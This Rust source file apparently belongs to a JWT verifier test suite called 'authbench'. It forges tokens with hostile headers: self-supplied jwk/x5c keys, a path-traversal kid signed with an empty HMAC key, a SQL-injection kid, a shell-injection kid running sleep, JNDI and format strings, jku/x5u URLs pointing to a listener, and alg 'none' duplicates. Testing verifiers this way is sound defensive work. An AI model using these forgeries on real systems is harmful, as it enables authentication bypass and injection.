//! Lies about the header: where the key is, which it is, and what has to be understood.

use super::lie;
use super::twin::{good, good_draft, header, header_signed_by, random_text, twin, unforgeable};
use crate::scheme::jose::key::{mac, strangers};
use crate::scheme::jose::{Alg, Jws, Members, SigningKey};
use crate::scheme::{Draft, Forged, Forgery};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

/// Seconds that the lie `kid-shell` asks a shell to sleep.
pub const SLEEP: u64 = 3;

/// Told with one valid token.
pub(super) const WITH_A_TOKEN: &[Forgery] = &[
    // --- a key that the token brings along (RFC 8725 §3.8)
    lie("header-jwk", "a key of its own in the header, and its signature", |draft| {
        own_key(draft, |header, key| {
            header.remove("kid");
            header.set("jwk", key.public_jwk().unwrap_or_default());
        })
    }),
    lie("header-jwk-kid", "a key of its own in the header under the trusted kid, and its signature", |draft| {
        own_key(draft, |header, key| {
            let mut jwk = key.public_jwk().unwrap_or_default();
            if let Some(kid) = header.value("kid") {
                jwk["kid"] = kid;
            }
            header.set("jwk", jwk);
        })
    }),
    lie("header-x5c", "a certificate of its own in the header, and its signature", |draft| {
        own_key(draft, |header, key| {
            header.remove("kid");
            header.set("x5c", vec![STANDARD.encode(key.certificate().unwrap_or_default())]);
        })
    }),
    // --- a kid that wants to be more than a name (RFC 8725 §3.10)
    lie("kid-dev-null", "a kid that is the path of an empty file, HS256 with an empty key", |draft| {
        kid_with_secret(draft, "../../../../../../../dev/null", b"")
    }),
    lie("kid-sql", "a kid that selects a known secret, HS256 with it", |draft| {
        kid_with_secret(draft, "x' UNION SELECT 'authbench' -- ", b"authbench")
    }),
    lie("kid-format", "a kid of format directives", |draft| kid(draft, &json!("%s%n%x{0}${jndi:x}"))),
    lie("kid-array", "an array for a kid", |draft| kid(draft, &json!(["a"]))),
    lie("kid-object", "an object for a kid", |draft| kid(draft, &json!({ "$ne": null }))),
    lie("kid-number", "a number for a kid", |draft| kid(draft, &json!(5))),
    lie("kid-empty", "an empty kid", |draft| kid(draft, &json!(""))),
    lie("kid-long", "a kid of 64 KiB", |draft| kid(draft, &json!("k".repeat(64 * 1024)))),
    lie("kid-shell", "a kid that asks a shell to sleep", |draft| {
        kid(draft, &json!(format!("k;sleep {SLEEP};`sleep {SLEEP}`$(sleep {SLEEP})|sleep {SLEEP}")))
    }),
    lie("kid-random", "a kid that nobody published", |draft| {
        let random = random_text(draft);
        kid(draft, &json!(random))
    }),
];

/// Told with a listener of authbench: whoever follows the address is seen.
pub(super) const WITH_A_LISTENER: &[Forgery] = &[
    lie("jku", "a jku that leads to a key of its own, and its signature", |draft| {
        address(draft, "jku", |listener, _| format!("{listener}/jwks.json"))
    }),
    lie("x5u", "an x5u that leads to a certificate of its own, and its signature", |draft| {
        address(draft, "x5u", |listener, _| format!("{listener}/certificate.pem"))
    }),
    lie("jku-user", "a jku with the trusted host as user information", |draft| {
        address(draft, "jku", |listener, trusted| {
            format!("{}/jwks.json", listener.replacen("://", &format!("://{trusted}@"), 1))
        })
    }),
    lie("jku-fragment", "a jku with the trusted host in its fragment", |draft| {
        address(draft, "jku", |listener, trusted| format!("{listener}/jwks.json#{trusted}"))
    }),
    lie("jku-query", "a jku with the trusted host in its query", |draft| {
        address(draft, "jku", |listener, trusted| format!("{listener}/jwks.json?{trusted}/.well-known/jwks.json"))
    }),
    lie("kid-url", "a kid that is an address", |draft| {
        let listener = listener(draft)?.to_owned();
        kid(draft, &json!(format!("{listener}/kid")))
    }),
];

/// Told with the issuer's key.
pub(super) const WITH_THE_KEY: &[Forgery] = &[
    // --- extensions that must be understood (RFC 7515 §4.1.11)
    lie("crit-unknown", "a critical extension that nobody understands", |draft| {
        header(draft, &["crit", "authbench"], |header, _| {
            header.set("crit", vec!["authbench"]);
            header.set("authbench", true);
        })
    }),
    lie("crit-missing", "a critical extension that is not in the header", |draft| {
        header(draft, &["crit"], |header, _| header.set("crit", vec!["authbench"]))
    }),
    lie("crit-claim", "a claim as a critical extension", |draft| {
        header(draft, &["crit"], |header, _| header.set("crit", vec!["exp"]))
    }),
    lie("crit-b64", "a payload that says it is not encoded and is", |draft| {
        header(draft, &["crit", "b64"], |header, _| {
            header.set("crit", vec!["b64"]);
            header.set("b64", false);
        })
    }),
    lie("crit-empty", "an empty list of critical extensions", |draft| {
        header(draft, &["crit"], |header, _| header.set("crit", json!([])))
    }),
    lie("crit-registered", "alg as a critical extension", |draft| {
        header(draft, &["crit"], |header, _| header.set("crit", vec!["alg"]))
    }),
    lie("crit-text", "text for a list of critical extensions", |draft| {
        header(draft, &["crit"], |header, _| header.set("crit", "authbench"))
    }),
    // --- a kid that names no key
    lie("kid-unknown", "a right signature under a kid that nobody published", |draft| {
        header(draft, &["kid"], |header, _| header.set("kid", "authbench-unknown"))
    }),
    lie("kid-absent", "a right signature without a kid", |draft| {
        header(draft, &["kid"], |header, _| header.remove("kid"))
    }),
    // --- types (RFC 8725 §3.11)
    lie("typ-jwt", "the type JWT", |draft| typ(draft, Some("JWT"))),
    lie("typ-absent", "no type", |draft| typ(draft, None)),
    lie("typ-logout", "the type of a logout token", |draft| typ(draft, Some("logout+jwt"))),
    lie("typ-dpop", "the type of a DPoP proof", |draft| typ(draft, Some("dpop+jwt"))),
    lie("typ-secevent", "the type of a security event", |draft| typ(draft, Some("secevent+jwt"))),
    lie("typ-introspection", "the type of an introspection answer", |draft| {
        typ(draft, Some("token-introspection+jwt"))
    }),
    lie("typ-long", "the type as a media type, application/at+jwt", |draft| typ(draft, Some("application/at+jwt"))),
    lie("typ-short", "the type at+jwt", |draft| typ(draft, Some("at+jwt"))),
    lie("typ-upper", "the type in upper case, AT+JWT", |draft| typ(draft, Some("AT+JWT"))),
    // --- a name twice (RFC 7515 §4)
    lie("dup-alg", "alg twice, the right one first and none last", |draft| {
        header(draft, &["alg"], |header, _| header.push_raw("alg", "\"none\""))
    }),
];

/// Told with two keys of the issuer.
pub(super) const WITH_TWO_KEYS: &[Forgery] =
    &[lie("kid-of-another", "the kid of another key of the issuer than the one that signed", |draft| {
        let kid = draft.kit.second_key.as_ref().and_then(|key| key.kid.clone());
        let Some(kid) = kid else { return unforgeable("`material.second_key` has no kid") };
        header(draft, &["kid"], |header, _| header.set("kid", kid))
    })];

fn typ(draft: &mut Draft<'_>, typ: Option<&str>) -> Forged {
    header(draft, &["typ"], |header, _| match typ {
        Some(typ) => header.set("typ", typ),
        None => header.remove("typ"),
    })
}

/// The good token with another kid; its signature, which no longer fits, is kept.
fn kid(draft: &Draft<'_>, kid: &Value) -> Forged {
    let signature = good(draft)?.signature;
    header_signed_by(draft, &["kid"], |header| header.set("kid", kid.clone()), |_| signature)
}

fn kid_with_secret(draft: &Draft<'_>, kid: &str, secret: &[u8]) -> Forged {
    let change = |header: &mut Members| {
        header.set("alg", "HS256");
        header.set("kid", kid);
    };
    header_signed_by(draft, &["alg", "kid"], change, |input| mac(Alg::HS256, secret, input))
}

/// The algorithm of the good token, or one with a public half where that has none.
fn asymmetric(good: &Jws) -> Alg {
    match good.alg() {
        None | Some(Alg::HS256 | Alg::HS384 | Alg::HS512) => Alg::RS256,
        Some(alg) => alg,
    }
}

fn own_key(draft: &Draft<'_>, change: impl FnOnce(&mut Members, &SigningKey)) -> Forged {
    let alg = asymmetric(&good(draft)?);
    let key = strangers(alg);
    let change = |header: &mut Members| {
        header.set("alg", alg.name());
        change(header, key);
    };
    header_signed_by(draft, &["alg", "kid", "jwk", "x5c"], change, |input| key.sign_as(alg, input))
}

fn listener<'k>(draft: &Draft<'k>) -> Result<&'k str, crate::scheme::Unforgeable> {
    let kit: &'k super::Kit = draft.kit;
    match kit.listener.as_deref() {
        Some(listener) => Ok(listener),
        None => unforgeable("there is no listener that the target can reach"),
    }
}

fn address(draft: &Draft<'_>, member: &str, at: impl FnOnce(&str, &str) -> String) -> Forged {
    let alg = asymmetric(&good(draft)?);
    let listener = listener(draft)?;
    let trusted = trusted_host(draft)?;
    let key = strangers(alg);
    let change = |header: &mut Members| {
        header.set("alg", alg.name());
        header.set("kid", "stranger");
        header.set(member, at(listener, &trusted));
    };
    header_signed_by(draft, &["alg", "kid", member], change, |input| key.sign_as(alg, input))
}

/// The host of the issuer, or a name in its place.
fn trusted_host(draft: &Draft<'_>) -> Result<String, crate::scheme::Unforgeable> {
    let issuer = good_draft(draft)?.claims.text("iss").unwrap_or_default();
    let host = url::Url::parse(&issuer).ok().and_then(|url| url.host_str().map(str::to_owned));
    Ok(host.unwrap_or_else(|| "issuer.invalid".to_owned()))
}

/// The key set that a listener shows to whoever follows an address: keys of nobody's.
pub fn strangers_keys() -> Value {
    let algs = [Alg::RS256, Alg::ES256, Alg::ES384, Alg::EdDSA];
    let keys: Vec<Value> = algs.into_iter().filter_map(|alg| strangers(alg).public_jwk()).collect();
    json!({ "keys": keys })
}

/// A token under a new key of the issuer's, for rotation.
///
/// # Errors
/// When the good token cannot be copied.
pub fn under_key(draft: &mut Draft<'_>, key: &SigningKey) -> Result<String, crate::scheme::Unforgeable> {
    let mut fresh = twin(draft)?.draft;
    if let Some(kid) = &key.kid {
        fresh.header.set("kid", kid.as_str());
    }
    Ok(fresh.signed(|input| key.sign(input)).text())
}
